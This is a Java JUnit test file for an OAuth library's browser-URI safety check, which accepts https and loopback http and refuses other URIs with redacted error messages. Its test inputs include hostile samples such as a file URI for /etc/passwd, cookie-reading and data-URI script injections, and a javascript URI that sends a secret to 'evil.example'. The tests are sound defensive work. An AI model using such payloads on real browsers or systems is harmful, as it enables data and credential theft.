package io.github.oauthcallback.browser;

import io.github.oauthcallback.internal.browser.BrowserUris;
import java.net.URI;
import java.util.List;

import io.github.oauthcallback.internal.browser.UnsafeBrowserUriException;
import org.junit.jupiter.api.Test;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatExceptionOfType;

class BrowserUrisTests {

	@Test
	void httpsWithAHostAndHttpToLoopbackAreSafe() {
		for (String safe : List.of("https://idp.example/authorize?state=s&x=1", "HTTPS://IDP.EXAMPLE:8443/a",
				"https://192.0.2.1/auth", "https://[2001:db8::1]/auth", "http://127.0.0.1:8080/authorize",
				"http://127.1.2.3/authorize", "http://localhost/authorize", "http://LOCALHOST:9000/x",
				"http://[::1]:8080/authorize", "http://[0:0:0:0:0:0:0:1]/x")) {
			assertThat(BrowserUris.isSafe(URI.create(safe))).as(safe).isTrue();
			assertThat(BrowserUris.requireSafe(safe, "The URL")).isEqualTo(URI.create(safe));
		}
	}

	@Test
	void everythingElseIsRefusedWithAReason() {
		assertRefused("file:///etc/passwd", "scheme 'file'");
		assertRefused("file://fileserver/share/login.html", "scheme 'file'");
		assertRefused("javascript:alert(document.cookie)", "scheme 'javascript'");
		assertRefused("data:text/html,%3Cscript%3Ealert(1)%3C/script%3E", "scheme 'data'");
		assertRefused("ftp://idp.example/x", "scheme 'ftp'");
		assertRefused("http://idp.example/authorize", "plain http to another machine");
		assertRefused("http://127.0.0.1.evil.example/authorize", "plain http to another machine");
		assertRefused("http://localhost.evil.example/authorize", "plain http to another machine");
		assertRefused("http://10.0.0.1/authorize", "plain http to another machine");
		assertRefused("http://999.0.0.1/authorize", "no host");
		assertRefused("http://[::2]/authorize", "plain http to another machine");
		assertRefused("https://user@idp.example/authorize", "user-info");
		assertRefused("https://user:password@idp.example/authorize", "user-info");
		assertRefused("http://user@127.0.0.1/authorize", "user-info");
		assertRefused("/authorize", "relative");
		assertRefused("idp.example/authorize", "relative");
		assertRefused("https:///authorize", "no host");
		assertRefused("https:idp.example", "no host");
		assertRefused("https://under_score.example/authorize", "no host");
	}

	@Test
	void textThatIsNotAUriIsRefused() {
		for (String text : new String[] { "\\\\fileserver\\share\\login.html", "https://idp.example\\@evil/x",
				"https://idp.example/a b", "", null }) {
			assertThatExceptionOfType(UnsafeBrowserUriException.class)
				.isThrownBy(() -> BrowserUris.requireSafe(text, "The authorization-uri"))
				.withMessageStartingWith("The authorization-uri")
				.withMessageContaining("https://");
		}
	}

	@Test
	void theMessageShowsNeitherTheQueryNorTheUserInfo() {
		assertThatExceptionOfType(UnsafeBrowserUriException.class)
			.isThrownBy(() -> BrowserUris.requireSafe(URI.create("http://idp.example/authorize?state=STATE-SECRET-1"),
					"The authorization URL of registration 'x'"))
			.withMessageContaining("'x'")
			.withMessageContaining("http://idp.example/...")
			.withMessageNotContaining("STATE-SECRET-1");
		assertThatExceptionOfType(UnsafeBrowserUriException.class)
			.isThrownBy(() -> BrowserUris.requireSafe(URI.create("https://alice:PASSWORD-1@idp.example/"), "The URL"))
			.withMessageNotContaining("PASSWORD-1")
			.withMessageNotContaining("alice");
		assertThatExceptionOfType(UnsafeBrowserUriException.class)
			.isThrownBy(() -> BrowserUris.requireSafe(URI.create("javascript:fetch('//evil.example/'+SECRET)"),
					"The URL"))
			.withMessageNotContaining("SECRET")
			.withMessageNotContaining("evil");
	}

	private static void assertRefused(String uri, String reason) {
		assertThat(BrowserUris.isSafe(URI.create(uri))).as(uri).isFalse();
		assertThatExceptionOfType(UnsafeBrowserUriException.class).as(uri)
			.isThrownBy(() -> BrowserUris.requireSafe(URI.create(uri), "The URL"))
			.withMessageStartingWith("The URL")
			.withMessageContaining(reason)
			.withMessageContaining("https://<host>");
	}

}
